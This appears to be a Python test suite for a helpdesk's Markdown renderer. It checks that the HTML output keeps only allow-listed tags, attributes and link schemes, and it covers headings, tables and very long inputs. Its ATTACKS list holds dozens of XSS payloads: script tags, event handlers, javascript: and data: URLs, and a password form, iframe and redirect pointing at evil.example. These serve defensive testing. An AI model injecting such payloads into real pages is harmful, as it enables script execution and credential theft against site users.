import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.policies.rendering import ADDRESSES, ATTRIBUTES, TAGS, render
from tests.pages import Page


class Html:
    """What ``Page`` reads."""

    status_code = 200

    def __init__(self, html: str) -> None:
        self.content = html.encode()

    def __getitem__(self, header: str) -> str:
        raise KeyError(header)


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](?delete=1)",
    "[x](#fragment)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    "    <script>alert(1)</script>",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\x00<script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
]


def harmless(html: str) -> None:
    """Only what the allow-list names is in the HTML, read as a browser reads it."""
    page = Page(Html(html))
    for one in page.root.inside():
        assert one.tag in TAGS
        allowed = ATTRIBUTES.get(one.tag, set()) | {"class"} | ({"rel"} if one.tag == "a" else set())
        assert set(one.attrs) <= allowed, (one.tag, one.attrs)
        if one["href"]:
            assert one["href"].split(":")[0].lower() in ADDRESSES
            assert one["rel"] == "noopener noreferrer nofollow"
    assert set(re.findall(r"<(\w+)", html)) <= TAGS


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_leads_astray(attack: str) -> None:
    harmless(render(attack))


MARKS = st.sampled_from(
    [
        "# ",
        "- ",
        "1. ",
        "> ",
        "**",
        "*",
        "`",
        "```\n",
        "[",
        "](",
        ")",
        "![",
        "<",
        ">",
        "&",
        "&#x3c;",
        '"',
        "'",
        "\n",
        "\n\n",
        "|",
        "|--|\n",
        "javascript:",
        "https://a.example",
        "script",
        " onerror=",
        "a",
        "\\",
        "\t",
    ]
)


@given(st.lists(MARKS | st.text(max_size=5), max_size=40).map("".join))
def test_nothing_anybody_types_is_harmful(typed: str) -> None:
    harmless(render(typed))


@given(st.text(max_size=300))
def test_any_text_is_rendered(typed: str) -> None:
    harmless(render(typed))


@pytest.mark.parametrize(
    "address", ["https://a.example/?x=1", "http://a.example", "mailto:a@b.example", "tel:+420"]
)
def test_links_lead_outside(address: str) -> None:
    (link,) = Page(Html(render(f"[words]({address})"))).all("a")
    assert (link["href"], link["rel"], link.text) == (address, "noopener noreferrer nofollow", "words")


def test_an_address_alone_is_no_link() -> None:
    assert "<a" not in render("See https://a.example and write to a@b.example.")


def test_headings_fit_below_those_of_the_page() -> None:
    html = render("# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n\nSetext\n======")
    assert re.findall(r"<(h\d)>(\w+)", html) == [
        ("h3", "One"),
        ("h4", "Two"),
        ("h5", "Three"),
        ("h6", "Four"),
        ("h6", "Five"),
        ("h6", "Six"),
        ("h3", "Setext"),
    ]


def test_a_table_scrolls_by_itself_and_figures_stand_right() -> None:
    html = render("| Days | Fee |\n|---|--:|\n| 7 | 100 |\n\nAfter.")
    page = Page(Html(html))
    (frame,) = page.all("div")
    assert (frame["class"], frame["tabindex"], frame["role"], frame["aria-label"]) == (
        "scroll-x",
        "0",
        "region",
        "Table",
    )
    assert [one["class"] for one in page.all("td")] == ["", "num"]
    assert "After." not in frame.text
    assert "style" not in html


def test_what_markdown_has() -> None:
    html = render("A **b** *c* ~~d~~ `e`\n\n> f\n\n3. g\n\n- h\n\n---\n\nline  \nbreak")
    for tag in ("strong", "em", "s", "code", "blockquote", 'ol start="3"', "ul", "hr", "br"):
        assert f"<{tag}>" in html


def test_very_deep_and_very_long_texts_come_back() -> None:
    for typed in (">" * 20_000, "[" * 20_000, "*a" * 10_000, "- " * 10_000, "`" * 19_999, "<" * 20_000):
        harmless(render(typed))
